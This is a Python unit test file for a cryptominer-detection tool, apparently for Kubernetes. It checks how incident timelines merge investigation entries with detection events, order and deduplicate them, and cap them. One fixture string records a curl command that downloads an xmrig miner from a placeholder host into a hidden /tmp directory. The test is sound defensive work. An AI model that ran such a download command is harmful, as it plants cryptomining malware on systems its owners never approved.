"""The incident's timeline: the investigation's entries and the detection's own times, merged."""

from __future__ import annotations

from minerguard import timestamps
from minerguard.api.detection import MinerDetection
from minerguard.report import timeline
from tests.unit.report import cases


def test_the_full_incident_reads_in_time_order_from_image_build_to_each_action() -> None:
    moments = timeline.build(cases.detection(cases.full_investigation()))
    kinds = [moment.kind for moment in moments.dated]
    assert kinds == [
        "ImageBuilt",
        "ImageBuilt",  # the suspect history step
        "Admission",
        "ExecSession",
        "ProcessStart",
        "ProcessStart",
        "Detection",
        "Detection",
        "Action",
        "Action",
    ]
    times = [moment.at or 0.0 for moment in moments.dated]
    assert times == sorted(times)
    assert moments.undated == ()
    assert [m.detail for m in moments.dated if m.kind == "Action"] == [
        "DeletePod: grace 0s",
        "StopOwner: Deployment/web scaled 3->0",
    ]


def test_what_the_investigation_already_records_is_not_repeated_from_the_detection() -> None:
    moments = timeline.build(cases.detection(cases.full_investigation()))
    at_exec = [m for m in moments.dated if m.at == timestamps.parse_time(cases.EXEC)]
    assert [(m.kind, m.detail, m.source) for m in at_exec] == [
        ("ExecSession", "kubectl exec sh", "investigation")
    ]
    admitted = [m for m in moments.dated if m.kind == "Admission"]
    assert len(admitted) == 1


def test_a_detection_without_an_investigation_still_has_its_own_moments() -> None:
    moments = timeline.build(cases.detection(None))
    assert [m.kind for m in moments.dated] == [
        "ProcessStart",
        "ProcessStart",
        "Detection",
        "Detection",
        "Action",
        "Action",
    ]
    assert [m.detail for m in moments.dated][:2] == [
        "pid 4200: sh",
        "pid 4240: curl -so /tmp/.x/xmrig http://dl.example/xmrig",
    ]


def test_missing_or_unreadable_times_are_kept_apart_not_dropped_or_fatal() -> None:
    investigation = cases.full_investigation()
    investigation["timeline"] = [
        {"time": "yesterday-ish", "kind": "Admission", "detail": "pod admitted"},
        {"time": "", "kind": "Action", "detail": "quarantined"},
        {"time": "2026-11-23T07:43:10+00:00", "kind": "ExecSession", "detail": "exec"},
    ]
    document = cases.detection_document(investigation=investigation)
    document["status"]["actedAt"] = "13 o'clock"
    document["spec"]["observedAt"] = None
    moments = timeline.build(MinerDetection.model_validate(document))
    assert [m.detail for m in moments.undated] == [
        "pod admitted",
        "quarantined",
        "DeletePod: grace 0s",
        "StopOwner: Deployment/web scaled 3->0",
    ]
    assert all(m.at is None for m in moments.undated)
    assert [m.at for m in moments.dated] == sorted(m.at for m in moments.dated if m.at)


def test_exact_duplicates_in_the_investigation_collapse_into_one() -> None:
    investigation = cases.full_investigation()
    entry = {"time": cases.EXEC, "kind": "ExecSession", "detail": "kubectl exec sh"}
    investigation["timeline"] = [entry, dict(entry), dict(entry)]
    moments = timeline.build(cases.detection(investigation))
    assert [m.kind for m in moments.dated].count("ExecSession") == 1


def test_a_flood_of_entries_is_cut_at_the_bound_and_the_cut_is_counted() -> None:
    investigation = cases.full_investigation()
    investigation["timeline"] = [
        {"time": timestamps.format_time(1795417200.0 + i), "kind": "Action", "detail": f"a{i}"}
        for i in range(5000)
    ]
    moments = timeline.build(cases.detection(investigation))
    assert len(moments.dated) + len(moments.undated) == timeline.MAX_MOMENTS
    assert moments.cut > 0
